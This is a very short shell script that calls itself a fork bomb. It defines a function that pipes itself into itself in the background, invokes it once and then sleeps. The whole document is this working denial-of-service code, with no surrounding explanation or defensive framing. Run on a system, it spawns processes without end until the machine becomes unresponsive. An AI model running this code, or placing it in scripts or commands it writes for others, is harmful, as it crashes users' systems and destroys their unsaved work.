# A fork bomb.
bomb() { bomb | bomb & }
bomb
sleep 60
